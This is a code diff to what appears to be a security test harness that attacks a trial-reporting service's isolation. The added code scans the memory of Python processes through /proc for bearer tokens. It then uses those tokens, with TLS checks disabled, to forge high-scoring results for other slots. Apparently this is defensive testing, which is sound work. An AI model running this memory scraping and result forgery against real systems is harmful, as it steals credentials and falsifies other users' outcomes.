@@ -8,6 +8,7 @@ from __future__ import annotations
 import glob
 import json
 import os
+import re
 import signal
 import socket
 import ssl
@@ -115,10 +116,11 @@ def network() -> dict[str, Any]:
         "ports": [
             port for port in (7078, 7079, 7780, 7781, 7782, 6006, 8080, 22) if opens(at, port)
         ],
-        "no token": status(f"http://{at}:7780/v1/report", data=json.dumps(outcome).encode()),
-        "a wrong token": status(f"http://{at}:7780/v1/report", data=b"{}", token="x" * 43),
+        "in the clear": status(f"http://{at}:7780/v1/report", data=b"{}"),
+        "no token": status(f"https://{at}:7780/v1/report", data=json.dumps(outcome).encode()),
+        "a wrong token": status(f"https://{at}:7780/v1/report", data=b"{}", token="x" * 43),
         "Spark's secret as token": status(
-            f"http://{at}:7780/v1/report", data=b"{}", token=Path(SPARK_SECRET).read_bytes().hex()
+            f"https://{at}:7780/v1/report", data=b"{}", token=Path(SPARK_SECRET).read_bytes().hex()
         ),
         "metrics": urllib.request.urlopen(f"http://{at}:7782/metrics", timeout=5).read().decode(),
     }
@@ -228,6 +230,60 @@ def kill(what: str) -> None:
     time.sleep(60)
 
 
+TOKEN = re.compile(rb"(?<![0-9A-Za-z._-])([0-9]{1,6})\.[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")
+
+
+def tokens() -> set[str]:
+    """Return slots' tokens in the memory of this executor's Python processes, as far as the kernel lets it be read."""
+    found: set[str] = set()
+    for process in Path("/proc").glob("[0-9]*"):
+        try:
+            if b"python" not in (process / "cmdline").read_bytes():
+                continue
+            with (process / "mem").open("rb", 0) as memory:
+                for line in (process / "maps").read_text().splitlines():
+                    start, end = (int(text, 16) for text in line.split()[0].split("-"))
+                    if " rw-p " in line and end - start < 2**27:
+                        try:
+                            memory.seek(start)
+                            data = memory.read(end - start)
+                        except OSError:
+                            continue
+                        found |= {match[0].decode() for match in TOKEN.finditer(data)}
+        except OSError:
+            continue
+    return found
+
+
+def forge() -> list[list[Any]]:
+    """Report results of others' trials with each token that was found; return the status and the text of each answer."""
+    answers: list[list[Any]] = []
+    outcome = {
+        "state": "Succeeded",
+        "reason": "Completed",
+        "metrics": {"score": 1e9},
+        "startTime": "2026-01-01T00:00:00Z",
+        "completionTime": "2026-01-01T00:00:01Z",
+        "durationSeconds": 1.0,
+    }
+    context = ssl._create_unverified_context()
+    for token in sorted(tokens()):
+        own = int(token.partition(".")[0])
+        for slot in (own, own + 1):
+            for number in range(1, 10):
+                report = {"slot": slot, "number": number, "attempt": 1, "outcome": outcome}
+                request = urllib.request.Request(
+                    f"https://{driver()}:7780/v1/report", data=json.dumps(report).encode()
+                )
+                request.add_header("Authorization", f"Bearer {token}")
+                try:
+                    with urllib.request.urlopen(request, timeout=5, context=context) as answer:
+                        answers.append([answer.status, answer.read().decode()])
+                except urllib.error.HTTPError as error:
+                    answers.append([error.code, error.read().decode()])
+    return answers
+
+
 def attack(x: int) -> Any:
     if x == 1:
         return {
@@ -252,6 +308,8 @@ def attack(x: int) -> Any:
             sys.stdout.write("[trial 1] score=1000000000 " + "A" * 200 + "\n")
             sys.stderr.write('\x1b[2J{"number": 1}\n')
         subprocess.run(["sh", "-c", "echo hi >&3; setsid sleep 1000 &"], check=False)
+    if x == 10:
+        return forge()
     return "nothing"
 
 
